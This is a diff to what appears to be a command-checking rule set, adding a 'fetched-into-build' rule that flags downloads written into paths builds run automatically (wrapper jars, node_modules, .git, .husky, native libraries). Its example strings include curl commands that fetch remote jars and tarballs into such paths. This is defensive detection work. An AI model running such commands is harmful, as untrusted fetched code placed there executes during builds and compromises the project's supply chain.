@@ -140,6 +140,47 @@ const publish: Rule = {
   },
 }
 
+/** Where builds and programs take code from without asking. */
+const RUN_BLINDLY =
+  /(^|\/)(gradle-wrapper\.jar|maven-wrapper\.jar|node_modules|vendor|deps|third_party|\.venv|venv|site-packages|\.mvn|\.gradle|\.git|\.husky|Pods|\.cargo)(\/|$)|\.(jar|so|dylib|dll|node|whl|gem|pth|cmake)$/
+
+const intoBuild: Rule = {
+  id: 'fetched-into-build',
+  group: 'remote-code',
+  tier: 'soft_deny',
+  sentence: 'Puts what it fetches where builds and programs run it.',
+  examples: {
+    finds: [
+      'curl -sLo gradle/wrapper/gradle-wrapper.jar https://x.example/w.jar',
+      'curl -sL https://x.example/d.tgz | tar xz -C deps/x',
+    ],
+    leaves: ['curl -o data/a.json https://x.example/a.json', 'cp a.jar lib/a.jar'],
+  },
+  find: (effect, view) => {
+    if (
+      effect.kind !== 'write' ||
+      effect.fetched === undefined ||
+      effect.target.path === null ||
+      !RUN_BLINDLY.test(effect.target.path)
+    )
+      return null
+    const from = effect.fetched.map(view.trust)
+    if (from.length > 0 && !from.some(isExternal)) return null
+    const [first] = from
+    return found(
+      effect,
+      from,
+      first === undefined
+        ? null
+        : {
+            operation: /\b(download|fetch|get|use|install|add|update|vendor)\w*\b/i,
+            targets: [first.id],
+            phrase: `fetch it from ${first.id}`,
+          },
+    )
+  },
+}
+
 const fresh: Rule = {
   id: 'new-package',
   group: 'packages',
@@ -186,4 +227,12 @@ const registry: Rule = {
   },
 }
 
-export const codeRules: readonly Rule[] = [downloaded, hidden, unseen, fresh, publish, registry]
+export const codeRules: readonly Rule[] = [
+  downloaded,
+  hidden,
+  unseen,
+  intoBuild,
+  fresh,
+  publish,
+  registry,
+]
